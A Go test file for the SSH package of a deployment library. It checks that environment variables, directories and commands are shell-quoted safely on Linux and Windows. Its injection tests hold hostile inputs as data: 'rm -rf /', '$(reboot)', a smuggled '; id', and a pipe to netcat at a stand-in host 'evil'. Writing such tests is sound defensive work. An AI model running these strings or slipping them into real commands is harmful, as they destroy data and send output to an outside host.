package ssh

import (
	"testing"

	"github.com/ruffel/redeploy"
	"github.com/stretchr/testify/assert"
)

func TestBuildEnvPrefix(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name string
		env  []string
		os   redeploy.TargetOS
		want string
	}{
		{"empty", nil, redeploy.OSLinux, ""},
		{"simple", []string{"A=1"}, redeploy.OSLinux, "export A='1'; "},
		{"value with quote", []string{"MSG=it's"}, redeploy.OSLinux, `export MSG='it'\''s'; `},
		{"value with equals", []string{"OPTS=a=b"}, redeploy.OSLinux, "export OPTS='a=b'; "},
		{"invalid key skipped", []string{"BAD;rm -rf /=x", "OK=1"}, redeploy.OSLinux, "export OK='1'; "},
		{"missing equals skipped", []string{"NOVALUE"}, redeploy.OSLinux, ""},
		{"windows", []string{"MSG=it's"}, redeploy.OSWindows, "$env:MSG='it''s'; "},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()

			assert.Equal(t, tt.want, buildEnvPrefix(tt.env, tt.os))
		})
	}
}

func TestBuildDirPrefix(t *testing.T) {
	t.Parallel()

	assert.Empty(t, buildDirPrefix("", redeploy.OSLinux))
	assert.Equal(t, "cd '/opt/my app' && ", buildDirPrefix("/opt/my app", redeploy.OSLinux))
	assert.Equal(t, "cd '/tmp/x'\\''; id' && ", buildDirPrefix("/tmp/x'; id", redeploy.OSLinux))
	assert.Equal(t, `Set-Location -LiteralPath 'C:\apps' -ErrorAction Stop; `, buildDirPrefix(`C:\apps`, redeploy.OSWindows))
}

func TestBuildFullCommand(t *testing.T) {
	t.Parallel()

	cmd := redeploy.Cmd("./install.sh").Arg("--force").Env("MODE", "prod").Dir("/opt/app").Build()

	assert.Equal(t, "export MODE='prod'; cd '/opt/app' && './install.sh' '--force'", buildFullCommand(cmd, redeploy.OSLinux))

	win := redeploy.NewCommand(`C:\apps\install.bat`)
	assert.Equal(t, `& 'C:\apps\install.bat'`, buildFullCommand(win, redeploy.OSWindows))
}

func TestBuildFullCommand_Injection(t *testing.T) {
	t.Parallel()

	payloads := []string{
		"; rm -rf /",
		"$(reboot)",
		"`id`",
		"a && b",
		"x | nc evil 1",
	}

	for _, p := range payloads {
		got := buildFullCommand(redeploy.NewCommand("echo", p), redeploy.OSLinux)
		assert.Equal(t, "'echo' '"+p+"'", got)
	}
}
